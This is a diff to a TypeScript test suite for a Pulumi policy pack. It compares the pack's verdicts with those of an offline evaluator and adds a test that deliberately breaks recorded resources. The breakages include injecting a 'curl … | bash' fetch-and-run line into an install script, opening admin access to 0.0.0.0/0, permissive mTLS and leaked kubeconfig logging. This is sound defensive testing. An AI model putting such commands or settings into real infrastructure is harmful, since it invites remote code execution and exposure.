@@ -154,16 +154,48 @@ describe("policy pack: served over gRPC as `pulumi preview --policy-pack policy`
         assert.deepStrictEqual(policies, RULES.map((r) => `${r.name}:${r.enforcementLevel}`));
     });
 
+    /** The pack's verdicts and the offline ones on the same resources, each as "rule [level] message". */
+    async function bothVerdicts(dump: Dump): Promise<{ fromPack: string[]; inProcess: string[] }> {
+        const fromPack = (await packVerdicts(pack, dump)).map((d) =>
+            d.message.startsWith("not checked during preview: ") ? key(d.policy, "not checked", d.message.slice("not checked during preview: ".length)) : key(d.policy, d.level, d.message),
+        );
+        const plan = { stack: dump.stack, outputs: dump.outputs, resources: dump.resources.map((r) => ({ ...r, inputs: redact(r.inputs) as Record<string, unknown> })) };
+        const inProcess = evaluatePlan(plan).map((v) => key(v.rule, v.undetermined ? "not checked" : v.enforcementLevel, v.message));
+        return { fromPack: fromPack.sort(), inProcess: inProcess.sort() };
+    }
+
+    /** The plan's resources broken the ways a pull request could break them, one per kind of rule. */
+    function broken(dump: Dump): Dump {
+        const script = (r: RecordedResource, edit: (s: string) => string) => ({ ...r, inputs: { ...r.inputs, create: edit(String(r.inputs.create)), update: edit(String(r.inputs.update)) } });
+        const resources = dump.resources.map((r) => {
+            if (r.type.endsWith(":MeshPolicy")) return { ...r, inputs: { ...r.inputs, spec: { peers: [{ mtls: { mode: "PERMISSIVE" } }] } } };
+            if (r.type === "kubernetes:helm.sh/v3:Chart" && typeof r.inputs.values === "object") {
+                const values = JSON.parse(JSON.stringify(r.inputs.values));
+                values.global.tag = "latest";
+                delete values.pilot.resources.limits;
+                return { ...r, inputs: { ...r.inputs, values } };
+            }
+            if (r.type === "command:remote:Command" && String(r.inputs.create).includes("readonly ADMIN_CIDRS=")) return script(r, (t) => t.replace(/readonly ADMIN_CIDRS=\([^)]*\)/, "readonly ADMIN_CIDRS=('0.0.0.0/0')"));
+            if (r.name.endsWith("-kubeconfig")) return { ...r, inputs: { ...r.inputs, logging: "stdoutAndStderr" }, additionalSecretOutputs: [] };
+            if (r.name.endsWith("-cni")) return script(r, (t) => t.replace("curl -fsSL", "curl -fsSL https://get.example/x.sh | bash\ncurl -fsSL"));
+            return r;
+        });
+        return { ...dump, resources };
+    }
+
     for (const stack of ["dev", "prod"]) {
         it(`${stack}: the pack's verdicts on the program's resources are the offline plan's`, async () => {
-            const dump = dumps.get(stack)!;
-            const fromPack = (await packVerdicts(pack, dump)).map((d) =>
-                d.message.startsWith("not checked during preview: ") ? key(d.policy, "not checked", d.message.slice("not checked during preview: ".length)) : key(d.policy, d.level, d.message),
-            );
-            const plan = { stack, outputs: dump.outputs, resources: dump.resources.map((r) => ({ ...r, inputs: redact(r.inputs) as Record<string, unknown> })) };
-            const inProcess = evaluatePlan(plan).map((v) => key(v.rule, v.undetermined ? "not checked" : v.enforcementLevel, v.message));
-            assert.deepStrictEqual(fromPack.sort(), inProcess.sort());
-            assert.ok(inProcess.length > 0, "the comparison covers findings, not only silence");
+            const { fromPack, inProcess } = await bothVerdicts(dumps.get(stack)!);
+            assert.deepStrictEqual(fromPack, inProcess);
+            assert.ok(!inProcess.some((v) => v.includes("[mandatory]")), `the committed ${stack} passes:\n${inProcess.join("\n")}`);
+        });
+
+        it(`${stack}: and on them broken as a pull request could break them`, async () => {
+            const { fromPack, inProcess } = await bothVerdicts(broken(dumps.get(stack)!));
+            assert.deepStrictEqual(fromPack, inProcess);
+            const rules = new Set(inProcess.filter((v) => v.includes("[mandatory]")).map((v) => v.split(" ")[0]));
+            const expected = ["secret-commands-silent", "downloads-verified", ...(stack === "prod" ? ["prod-strict-mtls", "admin-access-closed", "no-latest-image", "resource-limits"] : [])];
+            for (const rule of expected) assert.ok(rules.has(rule), `${rule} among ${[...rules].join(", ")}`);
         });
     }
 
